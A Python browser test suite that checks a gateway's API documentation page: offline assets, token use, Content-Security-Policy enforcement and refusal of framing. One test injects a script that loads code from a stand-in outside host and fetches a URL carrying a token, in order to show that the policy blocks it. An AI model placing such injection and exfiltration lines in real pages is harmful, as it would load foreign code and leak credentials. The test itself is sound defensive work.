"""`/docs` in a real browser: it works without the internet, and its scripts are the gateway's own."""

from collections.abc import Iterator

import httpx
import pytest

from tests.support.callers import user_token
from tests.support.live_gateway import live_gateway
from tests.support.settings import SettingsFactory
from tools.servers.browser import Browser, Tab


@pytest.fixture
def served(settings: SettingsFactory) -> Iterator[httpx.Client]:
    with live_gateway(settings()) as client:
        yield client


def test_it_is_shown_with_nothing_from_elsewhere(browser: Browser, tab: Tab, served: httpx.Client) -> None:
    before = len(browser.outside.arrivals)
    tab.page.goto(f"{served.base_url}/docs")
    tab.page.get_by_text("/messages/{message_id}/source").wait_for()
    tab.page.wait_for_load_state("networkidle")
    asked = {request.removeprefix(f"GET {served.base_url}") for request in tab.requests}
    assert {request for request in asked if not request.startswith("GET data:")} == {
        "/docs",
        "/docs/swagger-ui.css",
        "/docs/swagger-ui-bundle.js",
        "/docs/start.js",
        "/openapi.json",
    }
    assert browser.outside.arrivals[before:] == []
    assert tab.errors == [], "its Content-Security-Policy refuses nothing that the page needs"


def test_a_call_can_be_tried_out_with_a_token(tab: Tab, served: httpx.Client) -> None:
    page = tab.page
    page.goto(f"{served.base_url}/docs")
    page.locator("button.authorize").click()
    page.locator(".auth-container input").fill(user_token("jana", groups=["orders"]))
    page.locator(".auth-container").get_by_role("button", name="Apply credentials").click()
    page.locator(".modal-ux").get_by_role("button", name="Close").first.click()
    route = page.locator("#operations-api-keys-list_api_keys")
    route.locator("button").first.click()
    route.get_by_role("button", name="Try it out").click()
    with page.expect_response("**/api-keys*") as answered:
        route.get_by_role("button", name="Execute").click()
    assert answered.value.status == 403
    assert answered.value.json()["code"] == "forbidden"
    assert tab.errors == ["Failed to load resource: the server responded with a status of 403 (Forbidden)"]


def test_a_script_that_got_into_the_page_does_not_run(
    browser: Browser, tab: Tab, served: httpx.Client
) -> None:
    before = len(browser.outside.arrivals)
    tab.page.goto(f"{served.base_url}/docs")
    tab.page.evaluate("""async () => {
        const written = document.createElement("script")
        written.textContent = "window.ran = true"
        const loaded = document.createElement("script")
        loaded.src = "http://elsewhere.example/x.js"
        document.body.append(written, loaded)
        await new Promise(done => { loaded.onerror = done })
        await fetch("http://elsewhere.example/?token").catch(() => {})
    }""")
    assert tab.page.evaluate("window.ran") is None
    assert len([error for error in tab.errors if "Content Security Policy directive" in error]) == 3
    assert browser.outside.arrivals[before:] == []


def test_no_other_page_may_frame_it(tab: Tab, served: httpx.Client) -> None:
    tab.page.set_content(f"<iframe src='{served.base_url}/docs'></iframe>")
    tab.page.wait_for_load_state("networkidle")
    assert not [request for request in tab.requests if request.endswith("/openapi.json")]
    assert [error for error in tab.errors if "frame-ancestors" in error]
